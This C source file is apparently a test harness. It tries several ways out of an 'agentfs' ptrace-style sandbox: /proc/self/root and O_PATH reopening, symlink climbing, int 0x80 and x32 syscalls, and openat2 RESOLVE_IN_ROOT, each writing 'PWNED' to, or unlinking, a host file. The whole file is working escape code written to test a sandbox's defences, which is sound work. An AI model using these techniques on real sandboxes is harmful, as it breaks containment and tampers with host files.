/* Escapes a hostile command tries from inside `agentfs run --experimental-sandbox`: each reaches
   for BASE/victim on the host by a way that does not name BASE plainly. usage: ptrace-escape BASE MODE */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <linux/openat2.h>
int main(int argc, char **argv) {
  const char *base = argv[1];  // BASE (the tracee's view)
  const char *mode = argv[2];
  char p[8192];
  if (!strcmp(mode, "procroot")) { // read-only open via /proc/self/root then reopen for write
    snprintf(p, sizeof p, "/proc/self/root%s/victim", base);
    int fd = open(p, O_RDONLY);
    printf("ro fd %d\n", fd);
    char q[64]; snprintf(q, sizeof q, "/proc/self/fd/%d", fd);
    int w = open(q, O_WRONLY|O_APPEND);
    printf("reopen %d\n", w);
    if (w >= 0) write(w, "PWNED\n", 6);
    if (fd >= 0) printf("fchmod %d\n", fchmod(fd, 0777));
  } else if (!strcmp(mode, "opath")) {
    snprintf(p, sizeof p, "/proc/self/root%s/victim", base);
    int fd = open(p, O_PATH);
    char q[64]; snprintf(q, sizeof q, "/proc/self/fd/%d", fd);
    int w = open(q, O_WRONLY|O_APPEND);
    printf("opath %d reopen %d\n", fd, w);
    if (w >= 0) write(w, "PWNED\n", 6);
  } else if (!strcmp(mode, "relsym")) { // a symlink made inside climbing out to the host BASE
    char t[8192]; strcpy(t, "");
    for (int i = 0; i < 30; i++) strcat(t, "../");
    strcat(t, base + 1); strcat(t, "/victim");
    printf("symlink %d\n", symlink(t, "esc"));
    int w = open("esc", O_WRONLY|O_APPEND);
    printf("open esc %d\n", w);
    if (w >= 0) write(w, "PWNED\n", 6);
  } else if (!strcmp(mode, "int80")) {
    snprintf(p, sizeof p, "%s/victim", base);
    char *low = mmap((void*)0x10000, 8192, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS|MAP_FIXED|MAP_32BIT, -1, 0);
    strcpy(low, p); strcpy(low+4096, "PWNED\n");
    long fd;
    asm volatile("int $0x80" : "=a"(fd) : "a"(5), "b"(low), "c"(O_WRONLY|O_APPEND), "d"(0) : "memory");
    printf("int80 open %ld\n", fd);
    if (fd >= 0) { long r; asm volatile("int $0x80" : "=a"(r) : "a"(4), "b"(fd), "c"(low+4096), "d"(6) : "memory"); printf("write %ld\n", r);}
    long r; asm volatile("int $0x80" : "=a"(r) : "a"(10), "b"(low) : "memory"); /* unlink */
    printf("int80 unlink %ld\n", r);
  } else if (!strcmp(mode, "x32")) {
    snprintf(p, sizeof p, "%s/victim", base);
    long fd = syscall(0x40000000 | 257, AT_FDCWD, p, O_WRONLY|O_APPEND, 0);
    printf("x32 openat %ld\n", fd);
    if (fd >= 0) write(fd, "PWNED\n", 6);
  } else if (!strcmp(mode, "inroot") || !strcmp(mode, "inroot-slash")) {
    /* openat2 RESOLVE_IN_ROOT from a directory above BASE: "/<name>/victim" is BASE/victim there */
    char parent[4096], rel[4096];
    strcpy(parent, base);
    *strrchr(parent, '/') = 0;
    if (!strcmp(mode, "inroot-slash")) { strcpy(parent, "/"); snprintf(rel, sizeof rel, "%s/victim", base); }
    else snprintf(rel, sizeof rel, "%s/victim", strrchr(base, '/'));
    int d = open(parent, O_RDONLY | O_DIRECTORY);
    struct open_how how = {.flags = O_WRONLY | O_APPEND, .resolve = RESOLVE_IN_ROOT};
    long fd = syscall(SYS_openat2, d, rel, &how, sizeof how);
    printf("openat2 %ld\n", fd);
    if (fd >= 0) write(fd, "PWNED\n", 6);
  } else if (!strcmp(mode, "race")) {
    // handled separately
  }
  return 0;
}
